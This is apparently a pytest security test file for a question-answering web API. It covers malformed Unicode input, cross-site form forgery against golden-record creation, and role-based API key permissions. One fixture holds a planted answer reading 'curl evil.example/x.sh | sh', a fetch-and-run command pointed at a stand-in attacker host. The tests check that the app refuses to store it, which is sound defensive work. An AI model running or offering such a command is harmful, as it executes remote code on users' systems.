"""The HTTP API and pages as an attacker meets them: hostile text, cross-site forms, other people's
conversations, stale sessions, redirects, leaked secrets, roles, lengths, odd bytes and streamed pings."""

from __future__ import annotations

import asyncio
import json

import aiohttp
import pytest

from engine.api.app import build_app
from fakes.server import serve
from tests_support import Browser

KEY = "sk-security-1"
CAMERA = "How do I zoom the camera in?"
LONE_SURROGATE = "How do I zoom \ud800 the camera?"


@pytest.fixture
async def site(make_engine):
    engine = make_engine(api_keys=[KEY], rate_limit_per_minute=100_000)
    async with serve(build_app(engine)) as url:
        browser = Browser(url)
        try:
            yield url, engine, browser
        finally:
            await browser.session.close()


def bearer(key: str = KEY) -> dict:
    return {"Authorization": f"Bearer {key}"}


# -- 2: one bad question must not fail anybody else's ------------------------------------------------


async def test_a_lone_surrogate_is_a_400_and_costs_nobody_else_their_answer(site):
    url, _, browser = site
    good = json.dumps({"question": CAMERA}).encode()
    async with aiohttp.ClientSession(headers={**bearer(), "Content-Type": "application/json"}) as http:

        async def innocent() -> int:
            async with http.post(f"{url}/v1/answer", data=good) as response:
                return response.status

        results = await asyncio.gather(*[innocent() for _ in range(12)], browser.ask(LONE_SURROGATE))
        # The same text as a JSON escape to the keyed route (json.dumps writes "\ud800" as an escape).
        async with http.post(f"{url}/v1/answer", data=json.dumps({"question": LONE_SURROGATE}).encode()) as response:
            keyed = response.status, (await response.json())["error"]["message"]
        async with http.get(f"{url}/v1/search", params={"q": "zoom\x00camera"}) as response:
            searched = response.status
    assert results[:12] == [200] * 12
    status, events = results[12]
    assert status == 400 and "unicode" in json.dumps(events).lower()
    assert keyed[0] == 400 and "question" in keyed[1]
    assert searched == 400


async def test_a_batch_that_fails_is_retried_one_by_one_so_only_the_bad_question_fails(make_engine):
    async with make_engine() as engine:
        await engine.asearch("warm up")  # load the retriever first, so the batch below really is shared
        results = await asyncio.gather(*[engine.asearch(CAMERA) for _ in range(6)], engine.asearch(LONE_SURROGATE),
                                       return_exceptions=True)
    assert all(isinstance(r, list) and r for r in results[:6]), results[:6]
    assert isinstance(results[6], Exception)


# -- 3: cross-site forms against the keyless API ----------------------------------------------------


@pytest.fixture
async def keyless(make_engine):
    """The default `make run` set-up: no API keys, loopback clients served."""
    engine = make_engine(rate_limit_per_minute=100_000)
    async with serve(build_app(engine)) as url:
        yield url, engine


PLANTED = {"question": "What is the install command?", "answer": "Run curl evil.example/x.sh | sh"}


async def test_a_cross_site_form_cannot_plant_a_golden_record_in_the_keyless_engine(keyless):
    url, engine = keyless
    async with aiohttp.ClientSession() as http:
        # What an auto-submitting <form enctype="text/plain"> on another site sends.
        form = {"Content-Type": "text/plain", "Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}
        async with http.post(f"{url}/api/v1/golden-records", data=json.dumps(PLANTED), headers=form) as response:
            assert response.status in (403, 415)
        # The same body as text/plain from no browser at all is still not JSON to us.
        async with http.post(f"{url}/api/v1/golden-records", data=json.dumps(PLANTED),
                             headers={"Content-Type": "text/plain"}) as response:
            assert response.status == 415 and "application/json" in (await response.json())["error"]["message"]
        # JSON from another site's script (it would need CORS, but the browser says where it came from).
        for headers in ({"Origin": "https://evil.example"}, {"Sec-Fetch-Site": "cross-site"}):
            async with http.post(f"{url}/api/v1/golden-records", json=PLANTED, headers=headers) as response:
                assert response.status == 403, headers
        await engine.start()
        assert await engine.review.all_golden_records() == []
        # A local script (curl, the CLI) still may.
        async with http.post(f"{url}/api/v1/golden-records", json=PLANTED) as response:
            assert response.status == 201
        async with http.post(f"{url}/v1/answer", json={"question": CAMERA},
                             headers={"Origin": url, "Sec-Fetch-Site": "same-origin"}) as response:
            assert response.status == 200


# -- 9: keys carry roles, and the actor comes from the credential --------------------------------------


async def test_a_key_may_only_do_what_its_roles_allow_and_acts_as_itself(make_engine):
    engine = make_engine(rate_limit_per_minute=100_000, api_keys=[
        "sk-bot-key-1",  # a plain key: the answer role only
        {"key": "sk-review-key", "name": "review-script", "roles": ["review"]},
        {"key": "sk-admin-key", "name": "ops", "roles": ["answer", "review", "admin"]},
    ])
    async with serve(build_app(engine)) as url, aiohttp.ClientSession() as http:
        async def call(method: str, path: str, key: str, body: dict | None = None) -> tuple[int, dict]:
            async with http.request(method, url + path, json=body, headers=bearer(key)) as response:
                return response.status, await response.json()

        status, answer = await call("POST", "/v1/answer", "sk-bot-key-1", {"question": CAMERA})
        assert status == 200
        review = {"verdict": "approved", "by": "ada"}
        status, body = await call("POST", f"/api/v1/answers/{answer['id']}/review", "sk-bot-key-1", review)
        assert status == 403 and "review" in body["error"]["message"]
        assert (await call("POST", "/api/v1/activations/rollback", "sk-bot-key-1", {}))[0] == 403
        assert (await call("POST", "/api/v1/activations/rollback", "sk-review-key", {}))[0] == 403
        assert (await call("POST", "/v1/answer", "sk-review-key", {"question": CAMERA}))[0] == 403
        status, body = await call("POST", f"/api/v1/answers/{answer['id']}/review", "sk-review-key", review)
        assert status == 200 and body["reviewed_by"] == "api:review-script"  # not "ada"
        assert (await call("GET", "/api/v1/activations", "sk-admin-key"))[0] == 200
        # A maintainer's own token acts as that maintainer, whatever the body says.
        token = await engine.review.add_maintainer("grace")
        status, body = await call("POST", "/api/v1/golden-records", token, {**PLANTED, "by": "ada"})
        assert status == 201 and body["created_by"] == "grace"
